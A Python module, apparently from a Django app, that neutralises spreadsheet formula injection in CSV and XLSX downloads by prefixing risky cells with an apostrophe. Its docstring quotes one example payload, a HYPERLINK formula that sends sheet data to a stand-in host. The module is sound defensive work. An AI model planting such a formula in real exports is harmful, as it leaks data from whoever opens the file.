"""Spreadsheet downloads that cannot carry a formula.

A cell a person typed (a department name, a title, an import's error message) that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by Excel, LibreOffice and
Google Sheets as a formula: ``=HYPERLINK("http://evil.example/?x="&A1,"Legal")`` in a
department name would become a live link that sends the sheet's data away. Every CSV and
XLSX SRM writes goes through ``dataset`` here, which writes such a cell as text by putting
an apostrophe in front of it (OWASP's advice). A plain number (``-12.50``) is left as it is.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from typing import Any

import tablib
from django.http import HttpResponse

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")

CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet shows it as text, never as a formula."""
    if not isinstance(value, str) or not value.startswith(FORMULA_PREFIXES):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def dataset(rows: Iterable[Sequence[Any]], *, headers: Sequence[str], title: str) -> tablib.Dataset:
    """A tablib Dataset of ``rows`` with every cell made safe (headers too)."""
    return tablib.Dataset(
        *([safe_cell(v) for v in row] for row in rows),
        headers=[safe_cell(h) for h in headers], title=title[:31],
    )


def download(rows: Iterable[Sequence[Any]], *, headers: Sequence[str], title: str, fmt: str,
             filename: str) -> HttpResponse:
    """A CSV or XLSX attachment (``fmt`` is one of ``CONTENT_TYPES``)."""
    data = dataset(rows, headers=headers, title=title)
    response = HttpResponse(data.export(fmt), content_type=CONTENT_TYPES[fmt])
    response["Content-Disposition"] = f'attachment; filename="{filename}.{fmt}"'
    return response
